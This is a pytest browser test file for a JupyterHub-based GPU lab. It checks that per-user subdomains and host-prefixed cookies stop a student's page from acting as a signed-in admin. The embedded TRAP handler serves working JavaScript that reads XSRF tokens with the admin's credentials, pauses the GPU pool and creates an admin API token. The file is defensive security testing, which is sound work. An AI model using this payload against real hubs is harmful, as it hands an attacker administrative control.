"""One visited link: what a student's page can do to staff, with per-user domains and without.

Mallory publishes an unauthenticated page from her own server; the admin, signed in, opens it.  The
lab with domains is behind TLS; Chromium is told where its hosts are, and asks no name server.
"""

import subprocess
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright
from tests.browser.conftest import ARGS, CHROMIUM
from tests.browser.people import sign_in, sign_in_as_staff, start

from miglab_bench.harness.temporary import TemporaryLab, temporary_lab
from miglab_spawner.local import folder_name

pytestmark = [pytest.mark.browser, pytest.mark.long]

DOMAIN = "lab.test"
DOMAINS = f"""
subdomain_host = "https://{DOMAIN}:{{port}}"
tls_certificate = "FOLDER/certificate.pem"
tls_key = "FOLDER/key.pem"
"""
TRAP = '''
from tornado import web


class Trap(web.RequestHandler):
    def get(self):
        self.finish("""<!doctype html><title>Trap</title><script>
            const read = async (url, find) => {
              const page = await fetch(url, {credentials: "include"});
              return find(await page.text());
            };
            const write = async (url, xsrf, body) => {
              const request = {method: "POST", credentials: "include", body: JSON.stringify(body)};
              request.headers = {"X-XSRFToken": xsrf, "Content-Type": "application/json"};
              return (await fetch(url, request)).status;
            };
            const pause = async origin => {
              const find = text => /miglab-xsrf" content="([^"]+)"/.exec(text)[1];
              const xsrf = await read(`${origin}/services/pool/`, find);
              return write(`${origin}/services/pool/api/pool/pause`, xsrf, {reason: "mallory"});
            };
            const steal = async origin => {
              const find = text => /xsrf_token: "([^"]+)"/.exec(text)[1];
              const xsrf = await read(`${origin}/hub/home`, find);
              return write(`${origin}/hub/api/users/admin/tokens?_xsrf=${xsrf}`, xsrf, {});
            };
            const tried = act => act.catch(error => `${error}`);
            window.attack = async (pool, hub) => [await tried(pause(pool)), await tried(steal(hub))]
        </script>""")


def _load_jupyter_server_extension(server):
    path = server.web_app.settings["base_url"] + "trap"
    server.web_app.add_handlers(".*$", [(path, Trap)])
'''
CONFIG = """
import sys
sys.path.insert(0, {folder!r})
c.ServerApp.jpserver_extensions = {{"trap": True}}
"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A certificate for the lab's domain and all hosts below it."""
    folder = tmp_path_factory.mktemp("tls")
    names = f"subjectAltName=DNS:{DOMAIN},DNS:*.{DOMAIN}"
    command = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2"]
    files = ["-keyout", folder / "key.pem", "-out", folder / "certificate.pem"]
    subprocess.run(
        [*command, "-subj", f"/CN={DOMAIN}", "-addext", names, *files],
        check=True,
        capture_output=True,
    )
    return folder


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    """A browser that finds the lab's hosts on this machine."""
    rule = f"--host-resolver-rules=MAP {DOMAIN} 127.0.0.1,MAP *.{DOMAIN} 127.0.0.1"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[*ARGS, rule])
        yield browser
        browser.close()


@pytest.fixture
def window() -> dict[str, Any]:
    """Each browser trusts the lab's certificate."""
    return {"ignore_https_errors": True}


@contextmanager
def lab_with_trap(lab: str) -> Iterator[TemporaryLab]:
    """A lab in which mallory's server will serve her page."""
    with temporary_lab(docker=False, lab=lab) as running:
        jupyter = running.settings.homes / folder_name("mallory") / ".jupyter"
        jupyter.mkdir(parents=True, mode=0o700)
        (jupyter / "trap.py").write_text(TRAP)
        config = CONFIG.format(folder=str(jupyter))
        (jupyter / "jupyter_server_config.py").write_text(config)
        yield running


@pytest.fixture(scope="module")
def lab(folder: Path) -> Iterator[TemporaryLab]:
    """A lab with per-user domains, over TLS."""
    with lab_with_trap(DOMAINS.replace("FOLDER", str(folder))) as running:
        yield running


def start_server(page: Page, lab: TemporaryLab, name: str) -> str:
    """Sign in and start a server; the origin that it is on."""
    sign_in(page, lab, name)
    start(page, "1g.5gb")
    page.wait_for_url(f"**/user/{name}/lab**", wait_until="commit")
    origin: str = page.evaluate("location.origin")
    return origin


def trap(lab: TemporaryLab, new_page: Callable[[], Page]) -> Page:
    """The admin's browser, signed in at the hub, on mallory's page."""
    origin = start_server(new_page(), lab, "mallory")
    admin = new_page()
    sign_in_as_staff(admin, lab, "admin")
    admin.goto(f"{lab.settings.public_url}hub/home")
    admin.goto(f"{origin}/user/mallory/trap")
    return admin


def attack(trapped: Page, pool: str = "", hub: str = "") -> list[object]:
    """What pool and hub answered to mallory's page, at these origins; empty: the page's own."""
    answers: list[object] = trapped.evaluate("([pool, hub]) => attack(pool, hub)", [pool, hub])
    return answers


def test_on_one_origin_a_link_gives_mallory_the_admins_powers(
    new_page: Callable[[], Page],
) -> None:
    """The trial lab is not for real people: the pool is paused, and an admin's token is made."""
    with lab_with_trap("") as lab:
        assert attack(trap(lab, new_page)) == [200, 201]
        assert lab.snapshot().paused


def test_with_domains_the_same_link_can_do_nothing(
    lab: TemporaryLab, new_page: Callable[[], Page]
) -> None:
    """The browser gives mallory's page neither the pool's page nor the hub's, by any address."""
    trapped = trap(lab, new_page)
    answers = attack(trapped, lab.settings.service_origin, lab.settings.lab.subdomain_host)
    assert ["TypeError" in str(answer) for answer in answers] == [True, True], answers
    on_her_own_host = attack(trapped)  # where the hub shows a sign-in form
    assert on_her_own_host[1] == 403 and "TypeError" in str(on_her_own_host[0])
    assert lab.snapshot().paused == ""


def test_people_find_everything_on_its_host(
    lab: TemporaryLab, new_page: Callable[[], Page]
) -> None:
    """A server, the pool's page by the hub's menu, an act there, and the way back."""
    port, student = lab.settings.lab.port, new_page()
    assert start_server(student, lab, "alice") == f"https://alice.{DOMAIN}:{port}"
    expect(student.locator("#jp-main-dock-panel")).to_be_visible()
    expect(student.locator(".miglab-status")).to_contain_text("1g.5gb")
    staff = new_page()
    sign_in_as_staff(staff, lab, "instructor")
    staff.goto(f"{lab.settings.public_url}hub/home")
    staff.get_by_role("link", name="Pool").click()
    staff.wait_for_url(f"https://pool--service.{DOMAIN}:{port}/services/pool/")
    expect(staff.get_by_role("heading", name="GPU pool")).to_be_visible()
    staff.get_by_role("link", name="Reservations").click()
    staff.wait_for_url("**/services/pool/reservations")
    staff.get_by_role("link", name="My server").click()
    staff.wait_for_url(f"{lab.settings.public_url}hub/home")


def test_cookies_stay_on_their_host(lab: TemporaryLab, new_page: Callable[[], Page]) -> None:
    """Those that sign in carry the prefix that keeps other hosts from setting or getting them."""
    page = new_page()
    sign_in_as_staff(page, lab, "instructor")
    page.goto(f"{lab.settings.service_origin}/services/pool/")
    expect(page.get_by_role("heading", name="GPU pool")).to_be_visible()
    by_name = {cookie["name"]: cookie for cookie in page.context.cookies()}
    session, hub = by_name["__Host-service-pool-session"], by_name["__Host-jupyterhub-hub-login"]
    assert session["domain"] == f"pool--service.{DOMAIN}" and hub["domain"] == DOMAIN
    assert session["secure"] and session["httpOnly"] and hub["secure"] and hub["httpOnly"]
